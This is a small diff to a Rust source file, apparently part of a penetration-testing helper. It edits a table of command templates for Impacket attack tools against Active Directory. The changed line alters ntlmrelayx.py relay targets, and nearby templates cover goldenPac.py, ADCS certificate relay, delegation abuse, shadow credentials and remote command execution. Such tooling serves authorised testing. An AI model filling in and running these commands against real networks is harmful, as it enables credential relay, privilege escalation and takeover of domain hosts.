@@ -241,7 +241,7 @@ pub const FAMILIES: &[Family] = &[
         ),
         "{i}goldenPac.py {domain}/{user}:{password}@{fqdn}",
         concat!(
-            "{i}ntlmrelayx.py «-tf {stem}.txt¦-t smb://{ip}¦-t ldaps://{fqdn}¦-t ",
+            "{i}ntlmrelayx.py «-t imap://{ip}¦-t ldap://{ip}¦-t ldaps://{fqdn}¦-t ",
             "http://{fqdn}/certsrv/certfnsh.asp» «-smb2support ¦--adcs --template {stem} ¦--delegate-access ",
             "¦--shadow-credentials --shadow-target {plainhost}$ ¦-i ¦-socks ¦-c whoami ¦-e {stem}.exe »",
         ),
